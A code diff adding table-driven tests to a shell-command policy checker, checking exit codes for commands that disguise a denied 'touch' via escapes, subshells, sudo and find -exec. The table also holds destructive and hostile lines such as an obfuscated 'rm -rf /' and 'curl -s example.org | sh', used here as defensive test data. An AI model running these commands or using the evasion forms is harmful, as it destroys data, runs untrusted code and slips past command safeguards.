@@ -80,6 +80,24 @@ describe("policy check", () => {
       rmSync(join(dir, "termbridge.jsonc"));
     }
   });
+  const table: [string, number][] = [
+    ["\\touch m", 1],
+    ["r''m -rf /", 3],
+    ["ls | { sudo nice -n 5 touch m; }", 1],
+    ["echo \"$(bash -c 'touch m')\"", 1],
+    ["find . -exec touch {} +", 1],
+    ['eval "$CMD"', 3],
+    ["curl -s example.org | sh", 3],
+    ["git status", 0],
+  ];
+  for (const [line, status] of table) {
+    test(`exit ${status} for ${JSON.stringify(line)} with deny: ["touch"]`, () => {
+      const config = join(dir, "touch.jsonc");
+      writeFileSync(config, '{ "policy": { "deny": ["touch"] } }');
+      const result = check(["--config", config, line]);
+      assert.equal(result.status, status, result.stdout + result.stderr);
+    });
+  }
   test("--policy off leaves out the shipped rules", () => {
     assert.equal(check(["--policy", "off", "rm -rf /"]).status, 0);
   });
